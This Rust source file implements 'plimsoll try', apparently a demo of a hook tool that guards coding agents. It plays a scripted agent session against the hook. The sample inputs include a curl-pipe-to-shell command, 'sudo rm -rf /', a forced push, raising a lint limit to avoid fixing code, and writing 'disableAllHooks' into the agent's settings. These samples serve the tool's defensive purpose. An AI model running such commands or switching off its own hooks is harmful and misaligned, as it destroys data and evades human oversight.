//! `plimsoll try`: the main job on one screen. A scratch project, a scripted agent, and the real hook: each step starts this
//! program as the client would and shows what it says.

mod alone;
mod own;

use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context, bail};
use serde_json::{Value as Json, json};
use state::process::{self, Program};
use state::reach::Fence;
use state::{Machine, atomic, files, git};

use super::setup::peers;
use crate::exit;
use crate::fault::Fault;
use crate::ui::{Printer, Tone};

/// Play a short agent session in a scratch project and show what the agent and you would see.
///
/// With a command, what would be said to that one: `plimsoll try 'curl https://example.com/x | sh'`. It is judged and never run.
///
/// Needs no network and no other tool than git. Nothing outside the scratch folder is touched. At a terminal it goes on at your
/// Enter, one screen at a time.
#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// A shell command of your own, in quotes
    command: Option<String>,
    /// As another agent would call it, such as codex
    #[arg(long, value_name = "NAME", conflicts_with = "alone")]
    agent: Option<String>,
    /// Keep the scratch project and say where it is
    #[arg(long)]
    keep: bool,
    /// Show an agent that works alone (`profile: autonomous`), and the project's own commands
    #[arg(long, conflicts_with = "command")]
    alone: bool,
}

const LIMIT: Duration = Duration::from_mins(1);
const SESSION: &str = "try";

/// The scratch project, and the program under show.
struct Stage<'a> {
    printer: &'a Printer,
    program: String,
    root: PathBuf,
    work: PathBuf,
}

pub(crate) fn run(machine: &Machine, printer: &Printer, args: &Args) -> anyhow::Result<u8> {
    let program = machine.executable().context("it is not known where this program lies")?;
    let dialect = match args.agent.as_deref() {
        None | Some("claude" | "claude-code") => None,
        Some(name) => Some(peers::find(name).with_context(|| {
            let near = crate::ui::nearest(name, peers::all().map(|dialect| dialect.id));
            let near = near.map(|near| format!("; did you mean {near}?")).unwrap_or_default();
            Fault::Usage(format!("unknown agent {name}{near}"))
        })?),
    };
    let work = files::scratch_dir("plimsoll-try").context("no scratch folder could be made")?;
    let root = work.join("project");
    let stage = Stage { printer, program: program.to_string_lossy().into_owned(), root, work: work.clone() };
    let played = match (&dialect, args.command.as_deref()) {
        (Some(dialect), own) => stage.play_agent(dialect, own),
        (None, Some(command)) => stage.play_own(command),
        (None, None) if args.alone => stage.play_alone(),
        (None, None) => stage.play(),
    };
    if args.keep {
        printer.line(&format!("\nThe scratch project is {}", work.display()));
    } else {
        files::remove_dir(&work).with_context(|| format!("{} could not be removed", work.display()))?;
    }
    played?;
    printer.line("");
    printer.toned(Tone::Good, "That is all. `plimsoll init` sets up a project of your own.");
    Ok(exit::OK)
}

impl Stage<'_> {
    fn play(&self) -> anyhow::Result<()> {
        self.prepare()?;
        self.say("An agent starts to work in a scratch project.");
        self.hook(&json!({"hook_event_name": "SessionStart", "source": "startup"}), Expect::Answer)?;

        self.say("It runs a command that it should not, and one that is fine:");
        self.hook(
            &tool("PreToolUse", "Bash", &json!({"command": "cd build && rm -rf $UNSET/ || sudo rm -rf /"})),
            Expect::Answer,
        )?;
        self.hook(&tool("PreToolUse", "Bash", &json!({"command": "git status && ls -la"})), Expect::Answer)?;

        self.say("It forces a push; the safe form runs instead:");
        self.hook(
            &tool("PreToolUse", "Bash", &json!({"command": "git push --force origin feature"})),
            Expect::Answer,
        )?;

        self.say("It meets a lint error and would rather change the rule than the code:");
        let edit = json!({"file_path": self.path(".ruff.toml"), "old_string": "line-length = 88", "new_string": "line-length = 300"});
        self.hook(&tool("PreToolUse", "Edit", &edit), Expect::Answer)?;

        self.pause();
        self.say("Then it tries to switch off the hooks themselves:");
        let write = json!({"file_path": self.path("src/../.claude/settings.json"), "content": "{\"disableAllHooks\": true}"});
        self.hook(&tool("PreToolUse", "Write", &write), Expect::Answer)?;

        let lints = crate::lint::is_embedded(linters::Language::Python, "ruff")
            || Machine::real().find_program("ruff").is_some();
        self.say(if lints {
            "It writes code. The file is formatted, and the agent is told what the linters found:"
        } else {
            "It writes code. No linter for it is built in or installed here, and that is said once:"
        });
        let draft = "import json\n\ndef greet(name):\n  return f'Hello, {nmae}'\n";
        let write = json!({"file_path": self.path("app.py"), "content": draft});
        self.file("app.py", draft)?;
        // Without linters there is nothing to show, and no reason to end here.
        self.hook(&tool("PostToolUse", "Write", &write), Expect::Any)?;
        self.show("app.py")?;

        self.say("Then it fixes the code. Plimsoll has nothing to say to that:");
        let fixed = "def greet(name: str) -> str:\n    return f\"Hello, {name}\"\n";
        let write = json!({"file_path": self.path("app.py"), "content": fixed});
        self.hook(&tool("PreToolUse", "Write", &write), Expect::Silence)?;
        self.file("app.py", fixed)?;
        self.hook(&tool("PostToolUse", "Write", &write), Expect::Silence)?;

        self.pause();
        self.say("Meanwhile something else (a formatter, a script) has changed the rules. The agent wants to finish:");
        self.file(".ruff.toml", "line-length = 300\n")?;
        self.hook(&json!({"hook_event_name": "Stop", "stop_hook_active": false}), Expect::Answer)?;

        self.say("It asks you; you say \"keep it\", and it runs the command that the answer named:");
        self.command(&["approve", "--yes", "--session", SESSION, "--", ".ruff.toml"])?;
        self.hook(&json!({"hook_event_name": "Stop", "stop_hook_active": false}), Expect::Silence)?;

        self.say("Everything is on record:");
        self.command(&["log", "--verdict", "deny"])
    }

    fn prepare(&self) -> anyhow::Result<()> {
        files::create_dir(&self.work.join("home"))?;
        self.file(".ruff.toml", "line-length = 88\n\n[format]\nquote-style = \"double\"\n")?;
        self.file("app.py", "def greet(name):\n    return \"Hello, \" + name\n")?;
        // The user's own signing and hooks are not for a scratch project.
        let who = ["-c", "user.name=try", "-c", "user.email=try@example.invalid"];
        let plain = ["-c", "commit.gpgSign=false", "-c", "core.hooksPath=/dev/null"];
        for words in [&["init", "-q", "-b", "main"][..], &["add", "-A"], &["commit", "-qm", "start"]] {
            let args: Vec<&str> = who.iter().chain(&plain).chain(words).copied().collect();
            let done = git::run(&self.root, &args, LIMIT)?;
            if done.code != Some(0) {
                bail!("git {} failed: {}", words[0], String::from_utf8_lossy(&done.stderr).trim());
            }
        }
        Ok(())
    }

    fn path(&self, name: &str) -> String {
        self.root.join(name).to_string_lossy().into_owned()
    }

    fn file(&self, name: &str, text: &str) -> anyhow::Result<()> {
        atomic::write(&self.root.join(name), text.as_bytes())
            .with_context(|| format!("{name} could not be written"))
    }

    /// A file of the project, as it is now.
    fn show(&self, name: &str) -> anyhow::Result<()> {
        let text = files::read(&self.root.join(name))?.unwrap_or_default();
        self.printer.toned(Tone::Faint, &format!("  {name} now"));
        for line in text.lines() {
            self.printer.line(&format!("    {line}"));
        }
        Ok(())
    }

    /// One screen at a time, where somebody reads along.
    fn pause(&self) {
        use std::io::{BufRead, IsTerminal};
        if std::io::stdin().is_terminal() && std::io::stdout().is_terminal() {
            self.printer.toned(Tone::Faint, "\nEnter: the next screen");
            let _ = std::io::stdin().lock().read_line(&mut String::new());
            self.printer.begin_screen();
        }
    }

    fn say(&self, text: &str) {
        // What a step says mostly fits below this.
        if self.printer.is_full(14) {
            self.pause();
        }
        self.printer.line("");
        self.printer.toned(Tone::Title, text);
    }

    /// A hook call as the client makes it, and what came back as the agent and the user get it.
    fn hook(&self, event: &Json, expected: Expect) -> anyhow::Result<()> {
        let mut payload = json!({"session_id": SESSION, "cwd": self.root, "permission_mode": "default"});
        if let (Some(into), Some(from)) = (payload.as_object_mut(), event.as_object()) {
            into.extend(from.clone());
        }
        let input = &event["tool_input"];
        let subject = input["command"].as_str().or(input["file_path"].as_str()).unwrap_or_default();
        let subject = subject.strip_prefix(&format!("{}/", self.root.display())).unwrap_or(subject);
        let name = event["hook_event_name"].as_str().unwrap_or_default();
        let tool = event["tool_name"].as_str().unwrap_or_default();
        self.printer.toned(Tone::Faint, format!("  {name} {tool} {subject}").trim_end());

        let done = self.start(&["hook"], payload.to_string().as_bytes())?;
        let said = String::from_utf8_lossy(&done.stdout);
        let code = done.code.and_then(|code| u8::try_from(code).ok());
        let answer = match (code, &*said) {
            // The other way to object, after the fact: what is on stderr reaches the agent.
            (Some(exit::BLOCKED), _) => {
                json!({"decision": "block", "reason": String::from_utf8_lossy(&done.stderr)})
            }
            (Some(exit::OK), "") => Json::Null,
            (Some(exit::OK), said) => serde_json::from_str(said).context("the hook's answer is not JSON")?,
            _ => bail!("the hook failed: exit {:?}, {said}", done.code),
        };
        if !expected.is_met(&answer) {
            bail!("the hook answered unexpectedly: {answer}");
        }
        self.answer(&answer);
        Ok(())
    }

    fn answer(&self, json: &Json) {
        if json.is_null() {
            self.printer.toned(Tone::Good, "    nothing to say");
            return;
        }
        let specific = &json["hookSpecificOutput"];
        if let Some(command) = specific["updatedInput"]["command"].as_str() {
            let label = self.printer.paint(Tone::Good, "runs instead");
            self.printer.hanging(&format!("    {label}: {command}"), 2);
        }
        let tone = if specific["permissionDecision"] == "allow" { Tone::Good } else { Tone::Bad };
        for (label, text, tone) in [
            (specific["permissionDecision"].as_str(), &specific["permissionDecisionReason"], tone),
            (json["decision"].as_str(), &json["reason"], Tone::Bad),
            (Some("the agent is told"), &specific["additionalContext"], Tone::Warning),
            (Some("you see"), &json["systemMessage"], Tone::Warning),
        ] {
            if let (Some(label), Some(text)) = (label, text.as_str()) {
                let text = text.replace(&format!("{}/", self.root.display()), "");
                let label = self.printer.paint(tone, label);
                self.printer
                    .hanging(&format!("    {label}: {}", text.trim_end().replace('\n', "\n      ")), 2);
            }
        }
    }

    /// A command as a user types it.
    fn command(&self, words: &[&str]) -> anyhow::Result<()> {
        let line = shell::join(["plimsoll"].into_iter().chain(words.iter().copied()));
        self.printer.toned(Tone::Faint, &format!("  $ {line}"));
        let done = self.start(words, b"")?;
        if done.code != Some(0) {
            bail!("{line} failed: {}", String::from_utf8_lossy(&done.stderr).trim());
        }
        for text in String::from_utf8_lossy(&done.stdout).lines() {
            self.printer.line(&format!("    {}", text.replace(&format!("{}/", self.root.display()), "")));
        }
        Ok(())
    }

    fn start(&self, words: &[&str], stdin: &[u8]) -> anyhow::Result<process::Finished> {
        let text = |path: &Path| path.to_string_lossy().into_owned();
        let (home, state, root) =
            (text(&self.work.join("home")), text(&self.work.join("state")), text(&self.root));
        let variables = [
            ("HOME", home.as_str()),
            ("PLIMSOLL_STATE_DIR", state.as_str()),
            ("CLAUDE_PROJECT_DIR", root.as_str()),
            ("NO_COLOR", "1"),
            // A play must not cost money: no model is asked to fix what the linters find.
            ("HOOK_SKIP_SUBPROCESS", "1"),
        ];
        let machine = Machine::real();
        let program = Program::new(&self.program).args(words).cwd(&self.root).stdin(stdin).within(LIMIT);
        let program = variables.into_iter().fold(program, |program, (name, value)| program.env(name, value));
        // Where it is started may be somebody's project, which a scratch project knows nothing of.
        Ok(program.apart_from(&Fence::around(&machine, &machine.cwd())).run()?)
    }
}

/// What the play needs to go on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Expect {
    Answer,
    /// Nothing, or a remark: a machine without linters says so after an edit.
    Silence,
    Any,
}

impl Expect {
    fn is_met(self, answer: &Json) -> bool {
        let decides =
            !answer["decision"].is_null() || !answer["hookSpecificOutput"]["permissionDecision"].is_null();
        match self {
            Self::Answer => !answer.is_null(),
            Self::Silence => !decides,
            Self::Any => true,
        }
    }
}

fn tool(event: &str, name: &str, input: &Json) -> Json {
    let mut payload =
        json!({"hook_event_name": event, "tool_name": name, "tool_input": input, "tool_use_id": "toolu_try"});
    if event == "PostToolUse" {
        payload["tool_response"] = json!({"type": "create"});
    }
    payload
}
